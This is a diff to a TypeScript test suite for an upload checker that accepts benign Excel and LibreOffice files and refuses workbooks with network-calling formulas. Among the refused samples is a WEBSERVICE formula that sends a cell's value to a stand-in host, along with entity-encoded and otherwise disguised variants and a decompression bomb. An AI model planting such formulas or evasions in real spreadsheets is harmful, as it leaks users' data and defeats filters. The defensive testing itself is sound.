@@ -139,7 +139,24 @@ describe("a Word document", () => {
   });
 });
 
+const SHEET = `${OFFICE}.spreadsheetml.worksheet+xml`;
+/** A workbook with this in one of its sheets, whose name says nothing. */
+const sheet = (contents: string, type = override("/xl/a.xml", SHEET)) =>
+  docx({
+    types: [override("/xl/workbook.xml", XLSX_MAIN), type],
+    more: [{ name: "xl/a.xml", contents: `<worksheet>${contents}</worksheet>` }],
+  });
+
 describe("a workbook of Excel", () => {
+  it.each<[string, Buffer]>([
+    ["with formulas", sheet('<c r="A1"><f>SUM(B1:B9)&amp;"a:b"</f><v>3</v></c>')],
+    ["with a link that is opened by a click", sheet('<c><f>HYPERLINK("https://primarie.ro","primărie")</f></c>')],
+    ["that speaks of such formulas", sheet("<c><is><t>=WEBSERVICE(adresa)</t></is></c>")],
+    ["that is long", sheet('<c r="A1" s="1"><f>A1+1</f><v>1</v></c>'.repeat(100_000))],
+  ])("%s is taken", async (_, bytes) => {
+    expect(await contentOf(bytes)).toEqual({ kind: "xlsx", bytes });
+  });
+
   it("is known by its content, whatever its parts are called", async () => {
     for (const bytes of [workbook(), docx({ types: [override("/word/document.xml", XLSX_MAIN)] })])
       expect(await contentOf(bytes)).toEqual({ kind: "xlsx", bytes });
@@ -179,6 +196,38 @@ describe("a workbook of Excel", () => {
       }),
       "external",
     ],
+    [
+      "whose formula asks the network",
+      sheet('<c><f>_xlfn.WEBSERVICE("http://e.example?"&amp;A1)</f><v/></c>'),
+      "external",
+    ],
+    ["whose formula shows a picture from elsewhere", sheet("<c><f>_xlfn.IMAGE(A1)</f></c>"), "external"],
+    ["whose formula reads a program", sheet("<c><f t='shared'>RTD(&quot;a.b&quot;,,1)</f></c>"), "external"],
+    [
+      "whose formula asks the network, in letters by their numbers",
+      sheet("<x:f a='>'>&#87;EBSERVICE(A1)</x:f>"),
+      "external",
+    ],
+    ["with a rule that asks the network", sheet("<cfRule><formula>WEBSERVICE(A1)=1</formula></cfRule>"), "external"],
+    [
+      "with a sheet that is known only by its ending",
+      sheet("<c><f>WEBSERVICE(A1)</f></c>", `<Default Extension="xml" ContentType="${SHEET}"/>`),
+      "external",
+    ],
+    [
+      "with a name that asks the network",
+      docx({
+        types: [override("/xl/workbook.xml", XLSX_MAIN)],
+        more: [{ name: "xl/workbook.xml", contents: '<definedName name="a">WEBSERVICE("http://e")</definedName>' }],
+      }),
+      "external",
+    ],
+    [
+      "with a sheet that is also said to be something else",
+      sheet("<f>WEBSERVICE(A1)</f>", override("/xl/a.xml", SHEET) + override("/xl/a.xml", `${OFFICE}.theme+xml`)),
+      "kind",
+    ],
+    ["with a sheet that unpacks into too much", sheet(" ".repeat(49 * 1024 * 1024)), "kind"],
   ])("%s is refused", async (_, bytes, problem) => {
     expect(await contentOf(bytes)).toEqual({ problem });
   });
@@ -190,6 +239,10 @@ describe("a spreadsheet of LibreOffice", () => {
     ["with a link", ods({ content: '<text:a xlink:href="https://primarie.ro">x</text:a>' })],
     ["with a picture of its own", ods({ content: '<draw:image xlink:href="Pictures/1.png"/>' })],
     ["with formulas", ods({ content: `<table:table-cell table:formula="of:=SUM([.A1:.A9])+&quot;a:b&quot;"/>` })],
+    [
+      "with a link in a formula",
+      ods({ content: '<c table:formula="of:=HYPERLINK(&quot;https://primarie.ro&quot;;&quot;x&quot;)"/>' }),
+    ],
     ["with an empty list of programs", ods({ content: "<office:scripts/>" })],
     ["that is long", ods({ content: "<table:table-cell/>".repeat(100_000) })],
   ])("%s is taken", async (_, bytes) => {
